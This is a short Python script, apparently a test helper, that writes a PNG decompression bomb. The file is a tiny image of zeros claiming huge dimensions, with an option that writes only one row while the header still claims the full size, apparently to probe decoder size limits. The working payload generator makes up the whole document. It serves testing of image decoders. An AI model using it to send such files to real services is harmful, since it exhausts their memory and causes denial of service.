#!/usr/bin/env python3
"""Writes a PNG picture bomb: mkpng.py OUT WIDTH HEIGHT [header-only].
A 1-bit greyscale picture of zeros compresses ~1000:1, so 30000x30000 pixels
(3.6 GB decoded at 4 bytes a pixel) fit a ~110 KB file; header-only writes
just a 1-row IDAT (the file still claims the full size)."""
import struct, sys, zlib

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)

out, w, h = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rows = 1 if len(sys.argv) > 4 else h
row = b"\0" * (1 + (w + 7) // 8)
z = zlib.compressobj(9)
data = b"".join(z.compress(row) for _ in range(rows)) + z.flush()
with open(out, "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))
